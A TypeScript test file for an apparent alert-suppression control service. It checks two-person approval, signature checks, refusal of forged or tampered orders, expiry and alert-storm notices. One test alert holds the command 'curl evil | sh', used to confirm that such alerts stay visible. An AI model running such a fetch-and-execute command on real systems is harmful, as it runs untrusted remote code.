import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Alert } from '../../../core/alert/alert.ts';
import type { IntakeReport } from '../../../core/alert/intake-report.ts';
import type { StormReport } from '../../../core/alert/storm.ts';
import { type ControlState, controlNames } from '../../../core/decide/control.ts';
import { isSuppression } from '../../../core/decide/decision.ts';
import type { SuppressionTerms } from '../../../core/orders/suppression.ts';
import { glob, regex } from '../../../core/playbook/match.ts';
import { DecisionBook } from '../../../service/cell/control/decision-book.ts';
import {
  beliefsAt,
  type ControlLab,
  dayMs,
  noisyAlert,
  proposalOf,
  type RunningControl,
  type Signer,
  signedOrder,
  slackProposal,
  startControlLab,
  termsOf,
} from './control-harness.ts';

const folder = mkdtempSync(join(tmpdir(), 'firebreak-control-'));
let lab: ControlLab;
let control: RunningControl;

beforeAll(async () => {
  lab = await startControlLab();
  control = await lab.start();
});

afterAll(async () => {
  await lab.stop();
  rmSync(folder, { recursive: true, force: true });
});

let files = 0;
function bookAt(clock: { now: number }, file = join(folder, `book-${++files}.json`)): DecisionBook {
  return new DecisionBook({ file, beliefs: () => beliefsAt(clock.now), log: { info: () => {}, warn: () => {} } });
}

function statusOf(state: ControlState, { id }: SuppressionTerms): string | undefined {
  return state.decisions.find(({ proposal }) => proposal.order.terms.id === id)?.status.state;
}

const active = (terms: SuppressionTerms) => (state: ControlState) => statusOf(state, terms) === 'active';

/** A suppression that people have agreed on. */
async function agreed(over: Partial<SuppressionTerms> = {}): Promise<SuppressionTerms> {
  const terms = termsOf(await lab.clock(), over);
  await control.propose(terms);
  await control.vote(terms.id, 'approve', 'ben');
  if (over.upTo === 'critical') await control.vote(terms.id, 'approve', 'lea');
  await control.until(active(terms), 'the suppression to begin');
  return terms;
}

test('two votes in quick succession leave a card that shows the decision, even if the desk is slow to show the first', async () => {
  const terms = termsOf(await lab.clock(), { upTo: 'critical', match: { ...termsOf(0).match, rule: 'Voted on at once' } });
  await control.propose(terms);
  const ofIt = () => lab.edited.filter(({ questionId }) => questionId.endsWith(terms.id)).map(({ status }) => status.state);
  lab.slowly.edit = ({ status }) => (status.state === 'open' ? lab.server.takes(1_500) : Promise.resolve());
  await Promise.all([control.vote(terms.id, 'approve', 'ben'), control.vote(terms.id, 'approve', 'lea')]);
  await control.until(active(terms), 'the suppression to begin');
  await lab.eventually('the decision on the card', () => ofIt().includes('decided'));
  await lab.env.sleep('2s');
  expect(ofIt().at(-1)).toBe('decided');
  delete lab.slowly.edit;
});

describe('making a suppression', () => {
  test('whoever proposes it may not approve it; another person may, and then the cell believes it and hides what it names', async () => {
    const now = await lab.clock();
    const book = bookAt({ now });
    const terms = termsOf(now);
    await control.propose(terms);
    await control.vote(terms.id, 'approve', 'ana');
    expect((await control.state()).timeline.at(-1)).toMatchObject({
      kind: 'vote.refused',
      text: 'The person who asks may not answer.',
    });
    book.update(await control.state());
    expect(book.hiding(noisyAlert())).toBeUndefined();

    await control.vote(terms.id, 'approve', 'ben');
    book.update(await control.until(active(terms), 'the suppression to begin'));
    expect(book.hiding(noisyAlert())).toMatchObject({ terms: { id: terms.id }, proposer: 'ana', approvers: ['ben'] });
    await control.until(() => lab.records.some(({ kind }) => kind === 'suppression.begun'), 'the record');
    expect(lab.records.map(({ number }) => number)).toEqual(lab.records.map((_, index) => index + 1));
    await lab.heard((text) => text.includes(terms.id) && text.includes('Ben'));
  });

  test('it takes two people for critical alerts, and not the same one twice', async () => {
    const terms = termsOf(await lab.clock(), { upTo: 'critical' });
    await control.propose(terms);
    await control.vote(terms.id, 'approve', 'ben');
    await control.vote(terms.id, 'approve', 'ben', 'ben');
    expect(statusOf(await control.state(), terms)).toBe('proposed');
    await control.vote(terms.id, 'approve', 'lea', 'lea');
    await control.until(active(terms), 'the suppression to begin');
  });

  test('one person’s no ends it', async () => {
    const terms = termsOf(await lab.clock());
    await control.propose(terms);
    await control.vote(terms.id, 'reject', 'lea');
    await control.until((state) => statusOf(state, terms) === 'rejected', 'the end');
    await control.vote(terms.id, 'approve', 'ben');
    expect(statusOf(await control.state(), terms)).toBe('rejected');
  });

  test('votes by strangers, with other people’s keys, and by people who are not asked do not count', async () => {
    const terms = termsOf(await lab.clock());
    await control.propose(terms);
    await control.vote(terms.id, 'approve', 'ben', 'stranger');
    await control.vote(terms.id, 'approve', 'ben', 'ana');
    await control.vote(terms.id, 'approve', 'eve');
    await control.vote(terms.id, 'approve', 'nobody');
    await control.vote(terms.id, 'approve', 'ben', 'desk', { questionDigest: '0'.repeat(64) });
    await control.signal(controlNames.voteSignal, null);
    await control.signal(controlNames.voteSignal, { vote: 'x' });
    // A later one has been received, so these have too.
    const next = termsOf(await lab.clock());
    await control.propose(next);
    expect(statusOf(await control.state(), next)).toBe('proposed');
    expect(statusOf(await control.state(), terms)).toBe('proposed');
  });
});

describe('one that was proposed in Slack', () => {
  const proposedBySlack = async (over: Parameters<typeof slackProposal>[1] = {}) => {
    const rule = `From Slack ${Math.random()}`;
    const terms = termsOf(await lab.clock(), { match: { ...termsOf(0).match, rule } });
    const proposal = slackProposal(terms, over);
    await control.signal(controlNames.orderSignal, proposal);
    await control.until((state) => statusOf(state, terms) === 'proposed', 'the proposal');
    return { terms, proposal, alert: noisyAlert({ rule }) };
  };

  test('hides what it names once somebody else approves; and the cell believes it only as the desk signed it', async () => {
    const { terms, alert } = await proposedBySlack();
    await control.vote(terms.id, 'approve', 'ana');
    expect(statusOf(await control.state(), terms)).toBe('proposed');
    await control.vote(terms.id, 'approve', 'ben');
    const state = await control.until(active(terms), 'the suppression to begin');
    const now = await lab.clock();
    const book = bookAt({ now });
    book.update(state);
    expect(book.hiding(alert)).toMatchObject({ terms: { id: terms.id }, proposer: 'ana', approvers: ['ben'] });
    const own = bookAt({ now });
    const decisions = state.decisions.filter(isSuppression).map((one) => {
      const { via: _, ...order } = one.proposal.order;
      return { ...one, proposal: { ...one.proposal, order } };
    });
    own.update({ ...state, decisions });
    expect(own.hiding(alert)).toBeUndefined();
  });

  test('cannot be approved by whoever the alerts name as the actor, even if a workflow leaves them out', async () => {
    const { terms, alert } = await proposedBySlack({ actors: ['ben'] });
    await control.vote(terms.id, 'approve', 'ben');
    expect((await control.state()).timeline.at(-1)).toMatchObject({ kind: 'vote.refused' });
    await control.vote(terms.id, 'approve', 'lea');
    const state = await control.until(active(terms), 'the suppression to begin');
    const now = await lab.clock();
    const [honest, lied] = [bookAt({ now }), bookAt({ now })];
    honest.update(state);
    expect(honest.hiding(alert)).toBeDefined();
    const questions = state.questions.map(({ question: { actors: _, ...question }, ...rest }) => ({ ...rest, question }));
    lied.update({ ...state, questions });
    expect(lied.hiding(alert)).toBeUndefined();
  });

  test('is put to people once, however often it is sent', async () => {
    const { terms, proposal } = await proposedBySlack();
    const before = await control.state();
    await control.signal(controlNames.orderSignal, proposal);
    const after = await control.until(({ timeline }) => timeline.length > before.timeline.length, 'the line about the copy');
    expect(after.timeline.at(-1)).toMatchObject({ kind: 'order.repeated' });
    expect(after.decisions.filter(({ proposal: one }) => one.order.terms.id === terms.id)).toHaveLength(1);
  });
});

describe('what is refused', () => {
  test.each<[string, (now: number) => unknown]>([
    ['nothing', () => null],
    ['a text', () => 'suppress everything'],
    ['an order without signature', (now) => ({ order: proposalOf(termsOf(now)).order })],
    ['a stranger’s key', (now) => proposalOf(termsOf(now), 'ana', 'stranger')],
    ['another person’s key', (now) => proposalOf(termsOf(now), 'ana', 'ben')],
    ['the desk’s key', (now) => proposalOf(termsOf(now), 'ana', 'desk')],
    [
      'the desk’s key for an order that does not say how it came',
      (now) => slackProposal(termsOf(now), { via: undefined } as never),
    ],
    ['from Slack, with the person’s own key', (now) => slackProposal(termsOf(now), {}, 'ana')],
    ['from Slack, with a stranger’s key', (now) => slackProposal(termsOf(now), {}, 'stranger')],
    [
      'from Slack, with that removed after the signature',
      (now) => {
        const { order, ...signed } = slackProposal(termsOf(now));
        const { via: _, ...bare } = order;
        return { order: bare, ...signed };
      },
    ],
    [
      'another person than the desk signed for',
      (now) => {
        const proposal = slackProposal(termsOf(now));
        return { ...proposal, order: { ...proposal.order, person: 'ben' } };
      },
    ],
    ['from Slack, for somebody who is not on the roster', (now) => slackProposal(termsOf(now), { person: 'mallory' })],
    ['from Slack, for whoever the alerts name as the actor', (now) => slackProposal(termsOf(now), { actors: ['ana'] })],
    ['from Slack, from yesterday', (now) => slackProposal(termsOf(now - dayMs))],
    [
      'from Slack, for a time that has passed',
      (now) =>
        slackProposal(termsOf(now, { from: new Date(now - 60_000).toISOString(), until: new Date(now - 1).toISOString() })),
    ],
    [
      'an end disguised as a proposal, from Slack',
      (now) => signedOrder({ ...endOf(termsOf(now)).order, kind: 'suppression.propose', via: 'slack' } as never, 'desk'),
    ],
    ['somebody who is not on the roster', (now) => proposalOf(termsOf(now), 'mallory', 'stranger')],
    ['an owner who is not on the roster', (now) => proposalOf(termsOf(now, { owner: 'mallory' }))],
    ['more than 30 days', (now) => proposalOf(termsOf(now, { until: new Date(now + 31 * dayMs).toISOString() }))],
    ['an end before the beginning', (now) => proposalOf(termsOf(now, { until: new Date(now - dayMs).toISOString() }))],
    ['another cluster', (now) => proposalOf(termsOf(now, { cluster: 'other' }))],
    ['one from yesterday', (now) => proposalOf(termsOf(now - dayMs))],
    ['one from tomorrow', (now) => proposalOf(termsOf(now + dayMs))],
    [
      'no image',
      (now) =>
        proposalOf(
          termsOf(now, { match: { rule: 'x', namespace: 'a', workload: { kind: 'b', name: 'c' }, image: { digest: '' } } }),
        ),
    ],
    [
      'a rule by a pattern, which hides more than its name says',
      (now) => proposalOf(termsOf(now, { match: { ...termsOf(0).match, rule: glob('*') as never } })),
    ],
    [
      'a pattern that cannot be run',
      (now) => proposalOf(termsOf(now, { match: { ...termsOf(0).match, process: { arguments: regex('(a)\\1') } } })),
    ],
    [
      'a match on something that no alert has',
      (now) => proposalOf(termsOf(now, { match: { ...termsOf(0).match, labels: { team: 'a' } } as never })),
    ],
    [
      'terms changed after the signature',
      (now) => {
        const proposal = proposalOf(termsOf(now));
        return { ...proposal, order: { ...proposal.order, terms: { ...proposal.order.terms, upTo: 'critical' } } };
      },
    ],
  ])('%s', async (_what, make) => {
    const before = await control.state();
    const refused = (state: ControlState) => state.timeline.filter(({ kind }) => kind.endsWith('.refused')).length;
    await control.signal(controlNames.orderSignal, make(await lab.clock()));
    const after = await control.until((state) => refused(state) > refused(before), 'the refusal');
    expect(after.decisions).toEqual(before.decisions);
  });
});

describe('what a cell believes when a workflow lies', () => {
  let honest: ControlState;
  let terms: SuppressionTerms;
  let now: number;

  beforeAll(async () => {
    terms = await agreed({ match: { ...termsOf(0).match, rule: 'Lied about' } });
    honest = await control.state();
    now = await lab.clock();
  });

  const alert = noisyAlert({ rule: 'Lied about' });

  function believes(change: (state: ControlState) => ControlState, seen = alert): boolean {
    const book = bookAt({ now });
    book.update(change(structuredClone(honest)));
    return book.hiding(seen) !== undefined;
  }

  function withTerms(state: ControlState, over: Partial<SuppressionTerms>): ControlState {
    return {
      ...state,
      decisions: state.decisions.filter(isSuppression).map((one) => ({
        ...one,
        proposal: { ...one.proposal, order: { ...one.proposal.order, terms: { ...one.proposal.order.terms, ...over } } },
      })),
    };
  }

  test('as it is, it is believed', () => expect(believes((state) => state)).toBe(true));

  test.each<[string, (state: ControlState) => ControlState]>([
    ['another end', (state) => withTerms(state, { until: new Date(now + 20 * dayMs).toISOString() })],
    ['more severe alerts', (state) => withTerms(state, { upTo: 'critical' })],
    ['another owner', (state) => withTerms(state, { owner: 'ben' })],
    ['no votes', (state) => ({ ...state, questions: state.questions.map((one) => ({ ...one, votes: [] })) })],
    [
      'other votes',
      (state) => ({
        ...state,
        questions: state.questions.map((one) => ({
          ...one,
          votes: one.votes.map((signed) => ({ ...signed, vote: { ...signed.vote, person: 'lea' } })),
        })),
      }),
    ],
    [
      'other people asked',
      (state) => ({
        ...state,
        questions: state.questions.map((one) => ({
          ...one,
          question: { ...one.question, levels: [{ group: 'guests', withinMs: 1 }] },
        })),
      }),
    ],
    ['rubbish', (state) => ({ ...state, decisions: [...state.decisions.map((one) => ({ ...one, proposal: {} as never }))] })],
  ])('%s: not believed', (_what, change) => {
    expect(believes(change)).toBe(false);
  });

  test('a proposal that is only called active: not believed', async () => {
    const proposed = termsOf(await lab.clock(), { match: { ...terms.match, rule: 'Only proposed' } });
    const state = await control.propose(proposed);
    const claimed = {
      ...state,
      decisions: state.decisions.map((one) => ({ ...one, status: { state: 'active' as const, since: '' } })),
      questions: state.questions.map((one) => ({
        ...one,
        status: { state: 'decided' as const, choice: 'approve', by: ['ben', 'lea'], at: '' },
      })),
    };
    expect(believes(() => claimed, noisyAlert({ rule: 'Only proposed' }))).toBe(false);
  });
});

describe('what it hides', () => {
  test.each([
    ['a more severe alert', { severity: 'high' as const }],
    ['another image', { container: { digest: `sha256:${'e'.repeat(64)}` } }],
    ['an unknown image', { container: {} }],
    ['another workload', { workload: { kind: 'Deployment', namespace: 'shop', name: 'cart' } }],
    ['a guessed workload', { workload: { kind: 'Deployment', namespace: 'shop', name: 'debug', guessed: true as const } }],
    ['a pod that is not certain', { pod: { namespace: 'shop', name: 'debug-1' } }],
    ['an alert in doubt', { doubt: 'the sender sees another node' }],
    ['one that names the proposer as the actor', { observables: [{ type: 'user' as const, value: 'ana@example.com' }] }],
    ['one that names an approver as the actor', { process: { user: 'ben@example.com' } }],
  ])('not %s', async (_what, over) => {
    const rule = 'Hidden exactly';
    const terms = await agreed({ match: { ...termsOf(0).match, rule } });
    const book = bookAt({ now: await lab.clock() });
    book.update(await control.state());
    expect(book.hiding(noisyAlert({ rule }))).toBeDefined();
    expect(book.hiding(noisyAlert({ rule, ...over }))).toBeUndefined();
    await control.signal(controlNames.orderSignal, endOf(terms));
  });
});

test('is narrower if it says so, and excludes alerts of which that is unknown', async () => {
  const rule = 'Hidden narrowly';
  const narrower = { process: { arguments: glob('scan *') }, not: { tag: 'network' } } as const;
  const terms = await agreed({ match: { ...termsOf(0).match, rule, ...narrower } });
  const book = bookAt({ now: await lab.clock() });
  book.update(await control.state());
  const hidden = (over: Partial<Alert>): boolean => book.hiding(noisyAlert({ rule, ...over })) !== undefined;
  expect(hidden({ process: { commandLine: 'scan --all' } })).toBe(true);
  expect(hidden({ process: { commandLine: 'curl evil | sh; scan --all' } })).toBe(false);
  expect(hidden({ process: { commandLine: 'scan --all' }, tags: ['network'] })).toBe(false);
  expect(hidden({ process: { name: 'scan' } })).toBe(false);
  const { questions } = await control.state();
  expect(JSON.stringify(questions)).toContain('only where process arguments like “scan *”, and not tag “network”');
  await control.signal(controlNames.orderSignal, endOf(terms));
});

function endOf({ id }: SuppressionTerms, person = 'lea', signer: Signer = 'lea', via?: 'slack') {
  return signedOrder(
    {
      version: 1,
      kind: 'suppression.end' as const,
      person,
      cluster: 'lab',
      decision: id,
      reason: 'enough',
      at: new Date(lab.server.clock.now()).toISOString(),
      ...(via === undefined ? {} : { via }),
    },
    signer,
  );
}

describe('its end', () => {
  test('one person ends it, a stranger does not, and its old proof does not bring it back', async () => {
    const rule = 'Ended early';
    const terms = await agreed({ match: { ...termsOf(0).match, rule } });
    const before = await control.state();
    const book = bookAt({ now: await lab.clock() });
    book.update(before);
    expect(book.hiding(noisyAlert({ rule }))).toBeDefined();

    const told = bookAt({ now: await lab.clock() });
    told.update(before);
    told.end(endOf(terms, 'lea', 'stranger'));
    expect(told.hiding(noisyAlert({ rule }))).toBeDefined();
    // The cell accepted it, but the workflow was ended before it could say so.
    told.end(endOf(terms));
    expect(told.hiding(noisyAlert({ rule }))).toBeUndefined();
    told.update(before);
    expect(told.hiding(noisyAlert({ rule }))).toBeUndefined();

    await control.signal(controlNames.orderSignal, endOf(terms, 'lea', 'stranger'));
    await control.until(({ timeline }) => timeline.at(-1)?.kind === 'suppression.refused', 'the refusal');
    expect(statusOf(await control.state(), terms)).toBe('active');

    await control.signal(controlNames.orderSignal, endOf(terms));
    book.update(await control.until((state) => statusOf(state, terms) === 'ended', 'the end'));
    expect(book.hiding(noisyAlert({ rule }))).toBeUndefined();
    book.update(before);
    expect(book.hiding(noisyAlert({ rule }))).toBeUndefined();
  });

  test('is told again to a workflow that was reset to before it', async () => {
    const rule = 'Ended and set back';
    const terms = await agreed({ match: { ...termsOf(0).match, rule } });
    const state = await control.state();
    const book = bookAt({ now: await lab.clock() });
    book.update(state);
    expect(book.lostIn(state)).toEqual({ decided: [], ended: [], proposed: [], unrecorded: [] });
    book.end(endOf(terms));
    const lost = book.lostIn(state);
    expect(lost).toMatchObject({ decided: [], ended: [{ order: { decision: terms.id } }] });
    await control.signal(controlNames.recallSignal, lost);
    const after = await control.until((now) => statusOf(now, terms) === 'ended', 'the end');
    expect(book.lostIn(after)).toEqual({ decided: [], ended: [], proposed: [], unrecorded: [] });
  });

  test('from Slack it is signed by a desk for somebody on the roster, and by nobody else', async () => {
    const rule = 'Ended in Slack';
    const terms = await agreed({ match: { ...termsOf(0).match, rule } });
    const before = await control.state();
    const clock = { now: await lab.clock() };
    const refused = [
      endOf(terms, 'lea', 'lea', 'slack'),
      endOf(terms, 'lea', 'desk'),
      endOf(terms, 'lea', 'stranger', 'slack'),
      endOf(terms, 'mallory', 'desk', 'slack'),
    ];
    for (const order of refused) {
      const seen = (await control.state()).timeline.filter(({ kind }) => kind === 'suppression.refused').length;
      await control.signal(controlNames.orderSignal, order);
      await control.until(
        ({ timeline }) => timeline.filter(({ kind }) => kind === 'suppression.refused').length > seen,
        'the refusal',
      );
    }
    expect(statusOf(await control.state(), terms)).toBe('active');
    await control.signal(controlNames.orderSignal, endOf(terms, 'lea', 'desk', 'slack'));
    const after = await control.until((state) => statusOf(state, terms) === 'ended', 'the end');
    await lab.heard((text) => text.includes(`${terms.id} was ended by Lea: enough`));

    // The cell proves the end again, stores it, and rejects older proofs after that.
    const file = join(folder, 'ended-in-slack.json');
    const book = bookAt(clock, file);
    book.update(before);
    expect(book.hiding(noisyAlert({ rule }))).toBeDefined();
    book.update(after);
    const restarted = bookAt(clock, file);
    restarted.update(before);
    expect(restarted.hiding(noisyAlert({ rule }))).toBeUndefined();
  });

  test('the cell continues with what is on its disk, verifies it again, and ends it by the clock', async () => {
    const rule = 'On the disk';
    const terms = await agreed({ match: { ...termsOf(0).match, rule } });
    const clock = { now: await lab.clock() };
    const file = join(folder, 'kept.json');
    bookAt(clock, file).update(await control.state());

    const restarted = bookAt(clock, file);
    expect(restarted.hiding(noisyAlert({ rule }))).toMatchObject({ terms: { id: terms.id } });
    clock.now = Date.parse(terms.until);
    expect(restarted.hiding(noisyAlert({ rule }))).toBeUndefined();

    clock.now = Date.parse(terms.from) + 1_000;
    const forged = join(folder, 'forged.json');
    writeFileSync(
      forged,
      readFileSync(file, 'utf8').replaceAll(terms.until, new Date(Date.parse(terms.until) + dayMs).toISOString()),
    );
    expect(bookAt(clock, forged).hiding(noisyAlert({ rule }))).toBeUndefined();
    writeFileSync(forged, '{"suppressions":[{}],"ended":[{}]}');
    expect(bookAt(clock, forged).hiding(noisyAlert({ rule }))).toBeUndefined();
    expect(bookAt(clock, file).hiding(noisyAlert({ rule }))).toBeDefined();
  });

  test('it expires on its own, and a proposal that nobody decides on lapses', async () => {
    const now = await lab.clock();
    const short = await agreed({ until: new Date(now + 2 * dayMs).toISOString() });
    const forgotten = termsOf(await lab.clock(), { until: new Date(now + 29 * dayMs).toISOString() });
    await control.propose(forgotten);
    await lab.env.sleep('3d');
    await control.until((state) => statusOf(state, short) === 'expired', 'the expiry');
    expect(statusOf(await control.state(), forgotten)).toBe('proposed');
    await lab.env.sleep('5d');
    await control.until((state) => statusOf(state, forgotten) === 'lapsed', 'the lapse');
    await control.until(() => lab.records.some(({ kind }) => kind === 'suppression.lapsed'), 'the record');
  });
});

describe('a storm', () => {
  const report = (over: Partial<StormReport>): StormReport => ({
    source: 'one',
    state: 'on',
    began: '2026-06-01T10:00:00.000Z',
    at: new Date(0).toISOString(),
    alerts: 500,
    critical: 3,
    perSecond: 80,
    workloads: 40,
    top: [{ workload: 'shop/Deployment/web', rule: 'Terminal shell in container', sensor: 'falco', count: 200 }],
    ...over,
  });

  const at = async () => new Date(await lab.env.currentTimeMs()).toISOString();

  test('is one notice, edited at most once a minute, and one more when all intakes say that it is over', async () => {
    const shown = async (count: number) => {
      await lab.eventually('the notice', () => lab.notices.length >= count);
      expect(lab.notices).toHaveLength(count);
    };
    await control.signal(controlNames.stormSignal, 'nonsense');
    await control.signal(controlNames.stormSignal, report({ state: 'over' }));
    await control.signal(controlNames.stormSignal, report({ at: await at() }));
    await shown(1);
    for (const alerts of [600, 700]) await control.signal(controlNames.stormSignal, report({ alerts, at: await at() }));
    await control.signal(controlNames.stormSignal, report({ source: 'two', alerts: 50, at: await at() }));
    await control.until(({ storm }) => storm?.reports.length === 2, 'the second intake');
    expect(lab.notices).toHaveLength(1);
    await lab.env.sleep('70s');
    await shown(2);
    const [first, second] = lab.notices;
    expect(second?.key).toBe(first?.key);
    expect((second?.shownAt ?? 0) - (first?.shownAt ?? 0)).toBeGreaterThanOrEqual(59_000);
    expect(second?.lines.join(' ')).toContain('750 alerts, 6 of them critical; 160 a second');
    expect(second?.table).toEqual(['400 × Terminal shell in container (falco) on shop/Deployment/web']);
    await control.signal(controlNames.stormSignal, report({ state: 'over', alerts: 800, at: await at() }));
    await lab.env.sleep('70s');
    await shown(3);
    expect((await control.state()).storm).toBeDefined();
    // The other desk never responds again.
    await lab.env.sleep('12m');
    await shown(5);
    expect((await control.state()).storm).toBeUndefined();
    expect(lab.notices.at(3)?.title).toBe('Alert storm in lab (over)');
    expect(lab.notices.at(4)).toMatchObject({
      title: 'The alert storm in lab is over',
      lines: [expect.stringContaining('850 alerts')],
    });
    await control.until(() => lab.records.some(({ kind }) => kind === 'storm.over'), 'the record');
    expect(lab.records.filter(({ kind }) => kind.startsWith('storm.')).map(({ kind }) => kind)).toEqual([
      'storm.begun',
      'storm.over',
    ]);
  });

  test('neither begins nor ends with old reports, sent again by whoever can reach Temporal', async () => {
    const known = lab.records.length;
    const said = await at();
    const before = new Date(Date.parse(said) - 60_000).toISOString();
    await control.signal(controlNames.stormSignal, report({ at: said }));
    await control.until(({ storm }) => storm !== undefined, 'the storm');
    await control.signal(controlNames.stormSignal, report({ state: 'over', at: before }));
    await lab.env.sleep('70s');
    expect((await control.state()).storm?.reports.map(({ state }) => state)).toEqual(['on']);
    await control.signal(controlNames.stormSignal, report({ state: 'over', at: await at() }));
    await lab.env.sleep('70s');
    await control.until(({ storm }) => storm === undefined, 'its end');
    await control.signal(controlNames.stormSignal, report({ at: said }));
    await control.signal(controlNames.stormSignal, report({ source: 'of another day' }));
    expect((await control.state()).storm).toBeUndefined();
    const since = async () => lab.records.slice(known).filter(({ kind }) => kind.startsWith('storm.'));
    await lab.eventually('the records', async () => (await since()).length >= 2);
    expect((await since()).map(({ kind }) => kind)).toEqual(['storm.begun', 'storm.over']);
  });
});

const intakeReport = (over: Partial<IntakeReport>): IntakeReport => ({
  ...{ source: 'one', at: '2026-06-01T10:10:00.000Z', since: '2026-06-01T10:00:00.000Z', accepted: 5, duplicates: 0 },
  ...{ refused: {}, hidden: {}, sensors: [], watched: [], open: { count: 0, worst: [] } },
  ...over,
});

describe('the state of the intakes', () => {
  test('is what each of them reported last, and ignores anything that is not a report', async () => {
    await control.signal(controlNames.intakeSignal, 'nonsense');
    await control.signal(controlNames.intakeSignal, { ...intakeReport({}), accepted: -1 });
    await control.signal(controlNames.intakeSignal, intakeReport({}));
    await control.signal(controlNames.intakeSignal, intakeReport({ at: '2026-06-01T10:15:00.000Z', accepted: 8 }));
    await control.signal(controlNames.intakeSignal, intakeReport({ source: 'two' }));
    await control.until(({ intakes }) => intakes?.length === 2, 'the second intake');
    expect((await control.state()).intakes).toMatchObject([
      { source: 'one', accepted: 8 },
      { source: 'two', accepted: 5 },
    ]);
    expect(lab.records.map(({ kind }) => kind).filter((kind) => kind.startsWith('intake'))).toEqual([]);
  });

  test('puts on record what an intake refused, at the 1st and 10th time for a reason and not each time', async () => {
    const told = (minute: number, unauthorized: number) =>
      control.signal(
        controlNames.intakeSignal,
        intakeReport({ source: 'knocked at', at: `2026-06-01T10:${minute}:00.000Z`, refused: { unauthorized } }),
      );
    for (const [minute, count] of [
      [20, 3],
      [21, 9],
      [22, 12],
      [22, 900],
      [23, 40],
    ] as const)
      await told(minute, count);
    await control.until(({ intakes }) => intakes?.some(({ refused }) => refused.unauthorized === 40) === true, 'the last report');
    const refused = () => lab.records.filter(({ kind, body }) => kind === 'door.refused' && body.source === 'knocked at');
    await lab.eventually('the records', async () => refused().length >= 2);
    expect(refused().map(({ body }) => body)).toMatchObject([
      { door: 'intake', counts: { unauthorized: 3 }, text: 'the intake refused requests: 3 × unauthorized' },
      { door: 'intake', counts: { unauthorized: 12 } },
    ]);
  });
});

test('a run that is set aside is put on record once, with the command that helps', async () => {
  const incident = { id: 'incident/lab/shop/Deployment/cart', run: 'r1' };
  const told = { incident, why: 'it did not answer', playbooks: ['acme/miner'], contained: ['shop/cart-1'] };
  await control.signal(controlNames.setAsideSignal, told);
  await control.signal(controlNames.setAsideSignal, told);
  await control.signal(controlNames.setAsideSignal, {
    ...told,
    incident: { ...incident, run: 'r2' },
    playbooks: ['acme/miner', 'acme/other'],
    contained: [],
  });
  const found = () => lab.records.filter(({ kind }) => kind === 'incident.set-aside');
  await lab.eventually('the records', async () => found().length >= 2);
  expect(found().map(({ body }) => body)).toEqual([
    {
      text: 'This incident is set aside: its playbook acme/miner has ended its process twice (it did not answer). 1 pod stays contained: shop/cart-1. It asks nothing more, and hears no answer. When it is corrected, anyone on the roster can begin this incident again while it is open: firebreak incidents rerun shop/Deployment/cart --reason "playbook corrected" --as YOU --key FILE. Open questions are then asked again, without their votes.',
      incident: incident.id,
      run: 'r1',
      playbooks: ['acme/miner'],
      contained: ['shop/cart-1'],
    },
    expect.objectContaining({
      run: 'r2',
      text: expect.stringMatching(
        /: one of its playbooks \(acme\/miner, acme\/other\) has ended its process twice .*Nothing of it is contained\./,
      ),
    }),
  ]);
});

describe('a run that continues where another ended', () => {
  test('still knows the state of the intakes', async () => {
    const { runId } = control.run;
    await control.signal(controlNames.intakeSignal, intakeReport({ source: 'lasting' }));
    lab.server.build = 'a further build';
    await control.signal(controlNames.handOverSignal, lab.server.build);
    await lab.eventually('a new run', () => control.run.runId !== runId);
    expect(control.run.build).toBe('a further build');
    // It is there already.
    await control.signal(controlNames.handOverSignal, lab.server.build);
    expect(control.run.continued).toBe(1);
    expect((await control.state()).intakes?.map(({ source }) => source)).toContain('lasting');
  });

  test('still calls people by their names', async () => {
    const terms = termsOf(await lab.clock());
    await control.propose(terms);
    const { runId } = control.run;
    await control.signal(controlNames.handOverSignal, 'another build');
    await lab.eventually('a new run', () => control.run.runId !== runId);
    await control.vote(terms.id, 'approve', 'ben');
    const said = await lab.heard((text) => text.includes(`${terms.id}, approved by`));
    expect(said).toContain('approved by Ben');
    expect(said).toContain('Ana is responsible for it');
  });
});
